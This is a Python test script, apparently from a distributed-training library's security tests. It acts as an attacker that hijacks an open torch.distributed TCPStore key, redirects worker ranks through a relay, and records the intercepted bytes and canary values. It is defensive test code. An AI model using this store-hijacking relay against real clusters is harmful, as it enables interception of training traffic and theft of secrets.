"""The attacker of the multi-host relay test (``test_relay_across_hosts.py``), run as root in one simulated host: a
relay process as user `nobody` (``tests/_relay.py``) listens on this host's address; from the moment the workers' open
store (MASTER_ADDR:MASTER_PORT, read from ``OUT_DIR/master``) answers, this process writes the relay's address under
the key where rank 0 publishes the job store's, and writes it again each time rank 0's address replaces it (whose
address it then gives the relay as its target): the ranks that read the key after it connect through the relay.
It stops when ``OUT_DIR/done`` appears (or after 240 s) and writes ``OUT_DIR/attack.json``: the relay's
connections, every byte it carried (hex), the job store's real address, the number of rewrites, the relay's uid,
and the ranks' canaries (``canary/rank<R>``) it could read from the open store itself (those of a job without a
secret: the positive control).

    python relay_attack.py OUT_DIR LISTEN_ADDR
"""
from __future__ import annotations

import json
import os
import sys
import time
from datetime import timedelta

import torch.distributed as dist

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))  # tests/: the relay
from _relay import Relay  # noqa: E402

KEY = "fanfold/job_store"  # where rank 0 publishes the job store's address (fanfold._core.job)
DEADLINE_S = 240.0
WORLD = 4


def main(out: str, listen: str) -> None:
    end = time.monotonic() + DEADLINE_S
    relay = Relay(0, host="-", listen=listen)
    ours = f"{listen}:{relay.port}".encode()
    master = os.path.join(out, "master")
    while not os.path.exists(master):
        assert time.monotonic() < end, "the job never wrote its MASTER_ADDR:MASTER_PORT"
        time.sleep(0.01)
    host, _, port = open(master).read().rpartition(":")
    store = None
    while store is None:  # rank 0 starts the open store inside init_process_group
        try:
            store = dist.TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=5))
        except Exception:  # noqa: BLE001 - not listening yet
            assert time.monotonic() < end, f"the workers' store at {host}:{port} never answered"
            time.sleep(0.01)
    store.set(KEY, ours)
    real, rewrites, canaries = None, 1, {}
    while not os.path.exists(os.path.join(out, "done")) and time.monotonic() < end:
        if store is None:  # the relay goes on carrying the connections made through it
            time.sleep(0.05)
            continue
        try:
            value = store.get(KEY)
            for r in range(WORLD):
                if r not in canaries and store.check([f"canary/rank{r}"]):
                    canaries[r] = store.get(f"canary/rank{r}").decode()
        except Exception:  # noqa: BLE001 - the open store is gone (rank 0 closes it once the group is made)
            store = None
            continue
        if value != ours:
            if real is None:
                real = value.decode()
                relay.target(real)
            store.set(KEY, ours)
            rewrites += 1
        time.sleep(0.002)
    log = relay("log -")
    with open(os.path.join(out, "attack.json"), "w") as f:
        json.dump({"connections": log["connections"], "seen": log["c2s"] + log["s2c"], "real": real,
                   "rewrites": rewrites, "uid": relay.uid, "canaries": canaries}, f)
    relay.close()


if __name__ == "__main__":
    main(*sys.argv[1:3])
